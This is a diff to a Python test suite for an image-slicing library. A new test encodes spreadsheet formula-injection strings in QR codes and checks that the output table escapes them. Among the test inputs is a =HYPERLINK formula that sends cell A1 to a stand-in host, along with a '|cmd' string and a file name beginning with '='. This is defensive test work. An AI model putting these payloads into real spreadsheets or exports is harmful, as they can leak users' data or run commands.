@@ -9,6 +9,7 @@ from pathlib import Path
 
 import numpy as np
 import pytest
+import zxingcpp
 from PIL import Image
 from planted import ink, write
 from small_runs import (
@@ -31,7 +32,7 @@ from PyLogikSlicerLib.masking import polygon_mask
 from PyLogikSlicerLib.options import VARIANTS, Options
 from PyLogikSlicerLib.reading import open_stacks
 from PyLogikSlicerLib.writing.formats import FORMATS, decode
-from PyLogikSlicerLib.writing.output import OutputFolder, file_sha256
+from PyLogikSlicerLib.writing.output import TEXT_COLUMNS, OutputFolder, file_sha256
 
 PNG = FORMATS["png"]
 
@@ -237,7 +238,7 @@ def test_overwrite_and_other_options_do_all_again(engine, finished, options):
 def test_what_an_interrupted_run_with_other_options_did_not_reach_is_not_taken_for_done(engine, finished):
     source, output = finished
     with pytest.raises(Interrupt):
-        run([source], output, Options(format="png"), _interrupt_at(2), engine=engine)
+        run([source], output, Options(format="png", rename=False), _interrupt_at(2), engine=engine)
     assert Run(source, output, engine, format="png").worked_on == {2}
     assert {path.suffix for path in (output / "images").rglob("*_0000*")} == {".png"}
 
@@ -288,7 +289,7 @@ def test_a_canceled_run_leaves_nothing_half_written_and_the_next_one_completes_i
     for name in "abc":
         save(tmp_path / "in" / f"{name}.png", picture(ord(name)))
     with pytest.raises(Interrupt):
-        run([tmp_path / "in"], tmp_path / "out", Options(), _interrupt_at(2, stage), engine=engine)
+        run([tmp_path / "in"], tmp_path / "out", Options(rename=False), _interrupt_at(2, stage), engine=engine)
     assert_consistent(tmp_path / "out")
     assert [(row["name"], row["status"]) for row in table(tmp_path / "out", "log")] == [("a", "done"), ("", "failed")]
     rest = Run(tmp_path / "in", tmp_path / "out", engine)
@@ -308,7 +309,7 @@ def test_an_input_of_which_only_the_first_image_was_finished_is_done_again(engin
             raise Interrupt
 
     with pytest.raises(Interrupt):
-        run([tmp_path / "in"], tmp_path / "out", Options(), at_the_second_image, engine=engine)
+        run([tmp_path / "in"], tmp_path / "out", Options(rename=False), at_the_second_image, engine=engine)
     assert set(Run(tmp_path / "in", tmp_path / "out", engine).images) == {"a", "a-2"}
     assert_consistent(tmp_path / "out")
 
@@ -482,6 +483,26 @@ def test_the_current_directory_is_left_alone(engine, tmp_path):
     before = os.getcwd()
     Run(tmp_path / "in", tmp_path / "out", engine, variant="find-txt")
     assert os.getcwd() == before and not leftovers(tmp_path / "out")
+
+
+@pytest.mark.parametrize("text", ['=HYPERLINK("http://a.example/?"&A1;"open")', "  +1-2|cmd", "\uff1d1+1", "@SUM(1)", "ID 4711;=1+1"])
+def test_what_a_qr_code_says_is_no_formula_in_the_table_and_is_known_again(engine, tmp_path, text):
+    code = zxingcpp.create_barcode(text, zxingcpp.barcode_format_from_str("QR Code"))
+    modules = np.repeat(np.repeat(np.array(code.to_image(scale=1)), 4, axis=0), 4, axis=1)
+    image = picture(1, rows=240, columns=320)
+    image[20 : 20 + modules.shape[0], 30 : 30 + modules.shape[1]] = modules
+    save(tmp_path / "in" / "=scan.png", image)
+    done = Run(tmp_path / "in", tmp_path / "out", engine, variant="find-txt")
+    read = [row["text"] for row in table(tmp_path / "out", "text")]
+    assert any(text.strip().split(";")[-1] in cell for cell in read), read
+    # A cell begins at the start and, for some programs, at a semicolon.
+    parts = [part.strip() for row in table(tmp_path / "out", "text") for cell in row.values() for part in cell.split(";")]
+    assert not any(re.match(r"[=+@\uff1d]", part) for part in parts)
+    assert {row["name"] for row in table(tmp_path / "out", "text")} == {"'=scan"} and set(done.images) == {"=scan"}
+    with OutputFolder(tmp_path / "out") as folder:
+        rows = folder.read_table("text", TEXT_COLUMNS)
+    assert any(text.strip() in row["text"] and row["name"] == "=scan" for row in rows)
+    assert Run(tmp_path / "in", tmp_path / "out", engine, variant="find-txt").worked_on == set()
 
 
 def test_with_stack_the_stills_of_a_folder_are_the_frames_of_one_image(engine, tmp_path):
